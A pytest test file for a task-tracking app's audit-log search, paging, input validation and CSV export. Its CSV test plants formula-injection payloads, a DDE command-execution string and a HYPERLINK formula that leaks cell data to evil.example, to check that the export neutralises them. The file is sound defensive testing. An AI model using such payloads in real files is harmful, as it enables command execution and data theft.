"""Reading the audit trail: each filter, their combinations, Shanghai day boundaries, paging, refusals, CSV."""

from __future__ import annotations

import csv
import datetime as dt
import io
from zoneinfo import ZoneInfo

import pytest
import sqlalchemy as sa

from tasktrack.extensions import db
from tasktrack.models import AuditEvent, Role, UnitKind
from tasktrack.services import audit, audit_csv, audit_log, units, users
from tasktrack.services.audit_filter import FilterErrors, parse_filter, parse_page

SH = ZoneInfo("Asia/Shanghai")


def at(day: int, hour: int = 9, minute: int = 0) -> dt.datetime:
    """An instant of July 2024 given in Shanghai time."""
    return dt.datetime(2024, 7, day, hour, minute, tzinfo=SH).astimezone(dt.UTC)


class Thing:
    """Stands for any audited object: the trail keeps only its type name and id."""

    def __init__(self, id: int) -> None:
        self.id = id


class Assignment(Thing):
    pass


class Task(Thing):
    pass


@pytest.fixture
def trail(app, now, make_user):
    """Two units, a secretariat and one liaison each, and eight events on 1–3 July (Shanghai)."""
    first, _ = units.save_unit(None, actor=None, name="甲单位", kind=UnitKind.OTHER, categories=[],
                               contact_emails="", leader_email=None, now=at(1, 8))
    second, _ = units.save_unit(None, actor=None, name="乙单位", kind=UnitKind.OTHER, categories=[],
                                contact_emails="", leader_email=None, now=at(1, 8))
    db.session.commit()
    office = make_user(Role.SECRETARIAT, email="office@example.org", name="王敏")
    ann = make_user(Role.LIAISON, unit="甲单位", email="ann@example.org", name="安")
    bob = make_user(Role.LIAISON, unit="乙单位", email="bob@example.org", name="薄")
    # make_user and save_unit wrote their own events at other times; keep only ours on 1–3 July after 8:00.
    db.session.execute(sa.delete(AuditEvent))
    events = [
        (ann, "progress.report", Assignment(11), at(1, 9)),
        (bob, "progress.report", Assignment(12), at(1, 23, 59)),  # still 1 July in Shanghai (15:59 UTC)
        (ann, "extension.request", Assignment(11), at(2, 0, 0)),  # already 2 July in Shanghai (16:00 UTC, 1 July)
        (office, "extension.approve", Assignment(11), at(2, 10)),
        (office, "progress.confirm", Assignment(12), at(2, 11)),
        (office, "task.update", Task(3), at(3, 9)),
        (None, "notification.queue", Thing(7), at(3, 9)),
        (ann, "user.login", ann, at(3, 20)),
    ]
    for actor, action, obj, when in events:
        audit.record(actor, action, obj, now=when, summary=f"{action} {obj.id}")
    db.session.commit()
    return {"office": office, "ann": ann, "bob": bob, "first": first, "second": second}


def actions(flt, **kw) -> list[str]:
    return [row.action for row in audit_log.search(flt, **kw).rows]


def flt(**raw):
    return parse_filter(raw)


def test_no_filter_reads_everything_newest_first(trail) -> None:
    page = audit_log.search(flt())
    assert page.total == 8
    assert [r.action for r in page.rows] == ["user.login", "notification.queue", "task.update", "progress.confirm",
                                             "extension.approve", "extension.request", "progress.report",
                                             "progress.report"]
    # Same instant (task.update and notification.queue): the later id first, every time.
    assert page.rows[1].id > page.rows[2].id


def test_each_filter(trail) -> None:
    assert actions(flt(user="ann@example.org")) == ["user.login", "extension.request", "progress.report"]
    assert actions(flt(user=" ANN@example.org ")) == ["user.login", "extension.request", "progress.report"]
    assert actions(flt(user="system")) == ["notification.queue"]
    assert actions(flt(user="系统")) == ["notification.queue"]
    assert actions(flt(unit=str(trail["second"].id))) == ["progress.report"]
    assert actions(flt(unit="甲单位")) == ["user.login", "extension.request", "progress.report"]
    assert actions(flt(object="Assignment")) == ["progress.confirm", "extension.approve", "extension.request",
                                                 "progress.report", "progress.report"]
    assert actions(flt(object="任务分配", object_id="12")) == ["progress.confirm", "progress.report"]
    assert actions(flt(object="task")) == ["task.update"]
    assert actions(flt(action="progress.report")) == ["progress.report", "progress.report"]
    assert actions(flt(action="报送进展")) == ["progress.report", "progress.report"]
    assert actions(flt(action="extension")) == ["extension.approve", "extension.request"]
    assert actions(flt(action="extension.*")) == ["extension.approve", "extension.request"]
    assert actions(flt(action="no.such_code")) == []


def test_an_area_is_exactly_its_codes(trail) -> None:
    for code in ("focus.choose", "focus_item.create", "focusXitem.create", "focus.reopen"):
        audit.record(None, code, Thing(1), now=at(4, 9), summary=code)
    db.session.commit()
    assert actions(flt(action="focus")) == ["focus.reopen", "focus.choose"]
    assert actions(flt(action="focus_item")) == ["focus_item.create"]
    assert actions(flt(action="focus.choose")) == ["focus.choose"]


def test_days_are_shanghai_days_inclusive(trail) -> None:
    assert actions(flt(**{"from": "2024-07-01", "to": "2024-07-01"})) == ["progress.report", "progress.report"]
    assert actions(flt(**{"from": "2024-07-02", "to": "2024-07-02"})) == ["progress.confirm", "extension.approve",
                                                                       "extension.request"]
    assert actions(flt(**{"from": "2024-07-03"})) == ["user.login", "notification.queue", "task.update"]
    assert len(actions(flt(to="2024-07-02"))) == 5
    assert actions(flt(**{"from": "2024/7/2", "to": "2024.7.2"})) == actions(flt(**{"from": "2024-07-02",
                                                                                    "to": "2024-07-02"}))


def test_filters_combine(trail) -> None:
    assert actions(flt(user="ann@example.org", action="extension")) == ["extension.request"]
    assert actions(flt(unit="甲单位", **{"from": "2024-07-02"})) == ["user.login", "extension.request"]
    assert actions(flt(user="office@example.org", object="Assignment", object_id="11",
                       **{"from": "2024-07-02", "to": "2024-07-02"})) == ["extension.approve"]
    assert actions(flt(user="bob@example.org", unit="甲单位")) == []


def test_the_unit_is_the_actors_unit_when_it_happened(trail) -> None:
    ann = trail["ann"]
    users.update_user(ann, actor=trail["office"], name=ann.name, role=Role.LIAISON, unit=trail["second"],
                      phone=None, now=at(4, 9))
    db.session.commit()
    audit.record(ann, "user.login", ann, now=at(4, 10), summary="moved")
    db.session.commit()
    assert actions(flt(unit="甲单位")) == ["user.login", "extension.request", "progress.report"]
    assert actions(flt(unit="乙单位")) == ["user.login", "progress.report"]
    newest = audit_log.search(flt(user="ann@example.org")).rows[0]
    assert (newest.summary, newest.unit_name) == ("moved", "乙单位")


def test_paging_boundaries(trail) -> None:
    for i in range(112):
        audit.record(trail["office"], "task.update", Task(100 + i), now=at(5, 9), summary=f"批量 {i}")
    db.session.commit()
    query = flt(action="task.update", **{"from": "2024-07-05"})
    pages = [audit_log.search(query, page=n) for n in (1, 2, 3)]
    assert [p.total for p in pages] == [112, 112, 112]
    assert [len(p.rows) for p in pages] == [50, 50, 12]
    assert [(p.has_prev, p.has_next, p.pages) for p in pages] == [(False, True, 3), (True, True, 3), (True, False, 3)]
    ids = [r.id for p in pages for r in p.rows]
    assert ids == sorted(ids, reverse=True)
    assert len(set(ids)) == 112
    assert pages[2].first_number == 101
    beyond = audit_log.search(query, page=99)
    assert (beyond.page, [r.id for r in beyond.rows]) == (3, [r.id for r in pages[2].rows])
    empty = audit_log.search(flt(action="no.such_code"), page=5)
    assert (empty.total, empty.page, empty.rows, empty.pages, empty.first_number) == (0, 1, [], 1, 0)
    exactly = audit_log.search(query, per_page=56, page=2)
    assert (len(exactly.rows), exactly.has_next) == (56, False)


def test_iter_rows_reads_in_batches_in_page_order(trail) -> None:
    for i in range(23):
        audit.record(None, "notification.queue", Thing(200 + i), now=at(5, 9), summary=str(i))
    db.session.commit()
    everything = [r.id for r in audit_log.search(flt(), per_page=1000).rows]
    assert [r.id for r in audit_log.iter_rows(flt(), batch=4)] == everything
    assert [r.id for r in audit_log.iter_rows(flt(), batch=4, limit=9)] == everything[:9]
    assert [r.id for r in audit_log.iter_rows(flt(), batch=31)] == everything


@pytest.mark.parametrize(("raw", "field", "message"), [
    ({"user": "nobody@example.org"}, "user", "没有邮箱为“nobody@example.org”的账号"),
    ({"unit": "无此单位"}, "unit", "没有名为“无此单位”的单位"),
    ({"unit": "99999999999999999999"}, "unit", "单位编号 99999999999999999999 不存在"),
    ({"unit": "987654"}, "unit", "单位编号 987654 不存在"),
    ({"unit": "2147483648"}, "unit", "单位编号 2147483648 不存在"),
    ({"object": "Assignment", "object_id": "2147483648"}, "object_id", "应为正整数"),
    ({"from": "2024-13-01"}, "from", "不是有效日期"),
    ({"to": "yesterday"}, "to", "不是有效日期"),
    ({"from": "0001-01-01"}, "from", "2000 年至 2099 年"),
    ({"from": "2024-07-03", "to": "2024-07-01"}, "to", "结束日期不能早于开始日期"),
    ({"object_id": "12"}, "object_id", "请同时选择对象类型"),
    ({"object": "Assignment", "object_id": "99999999999999999999"}, "object_id", "应为正整数"),
    ({"object": "Assignment", "object_id": "-1"}, "object_id", "应为正整数"),
    ({"object": "<script>"}, "object", "对象类型“<script>”无效"),
    ({"action": "DROP TABLE"}, "action", "操作“DROP TABLE”无效"),
    ({"user": "a\x00b@example.org"}, "user", "控制字符"),
    ({"unit": "x" * 300}, "unit", "不能超过 254 个字符"),
])
def test_bad_values_are_refused_with_a_chinese_message(trail, raw, field, message) -> None:
    with pytest.raises(FilterErrors) as caught:
        parse_filter(raw)
    assert message in caught.value.errors[field], caught.value.errors


def test_several_bad_values_are_all_reported(trail) -> None:
    with pytest.raises(FilterErrors) as caught:
        parse_filter({"user": "nobody@example.org", "from": "x", "to": "y"})
    assert set(caught.value.errors) == {"user", "from", "to"}


@pytest.mark.parametrize("value", ["abc", "0", "-2", "1.5", "99999999999999999999", "１"])
def test_bad_page_numbers_are_refused(value) -> None:
    with pytest.raises(FilterErrors) as caught:
        parse_page(value)
    assert caught.value.errors == {"page": "页码应为正整数"}


def test_page_numbers() -> None:
    assert (parse_page(None), parse_page(""), parse_page(" 7 ")) == (1, 1, 7)


def test_filter_round_trips_through_its_query_args(trail) -> None:
    query = flt(user="ann@example.org", unit="甲单位", object="任务分配", object_id="11", action="报送进展",
                **{"from": "2024/7/1", "to": "2024-07-03"})
    args = query.query_args()
    assert args == {"user": "ann@example.org", "unit": str(trail["first"].id), "object": "Assignment",
                    "object_id": "11", "action": "progress.report", "from": "2024-07-01", "to": "2024-07-03"}
    assert parse_filter(args) == query
    assert flt().is_empty()
    assert not query.is_empty()


def test_csv_has_bom_header_and_neutralised_cells(trail, make_user) -> None:
    evil = make_user(Role.LIAISON, unit="甲单位", email="evil@example.org", name="=cmd|' /C calc'!A0")
    audit.record(evil, "progress.report", Assignment(11), now=at(6, 9),
                 summary='=HYPERLINK("http://evil.example/?x="&C2,"点击查看")',
                 before={"narrative": "@SUM(1+1)"}, after={"narrative": "\uff1d1+1", "status": "-1"})
    db.session.commit()
    data = b"".join(audit_csv.CsvStream(flt(**{"from": "2024-07-06", "to": "2024-07-06"})))
    assert data.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    assert rows[0] == list(audit_csv.CSV_HEADER)
    assert len(rows) == 2
    cells = dict(zip(rows[0], rows[1], strict=True))
    assert cells["操作人"] == "'=cmd|' /C calc'!A0"
    assert cells["说明"] == "'=HYPERLINK(\"http://evil.example/?x=\"&C2,\"点击查看\")"
    assert cells["变更内容"] == "进展情况：@SUM(1+1) → \uff1d1+1\n状态：-1"
    assert cells["操作"] == "报送进展"
    assert cells["时间（北京时间）"] == "2024-07-06 09:00:00"
    for row in rows[1:]:
        assert all(not cell or cell[0] not in "=+-@\t\r\uff1d\uff0b\uff0d\uff20" for cell in row), row


def test_csv_limit_and_count(trail) -> None:
    stream = audit_csv.CsvStream(flt(), limit=3)
    rows = list(csv.reader(io.StringIO(b"".join(stream).decode("utf-8-sig"))))
    assert (len(rows), stream.count) == (4, 3)
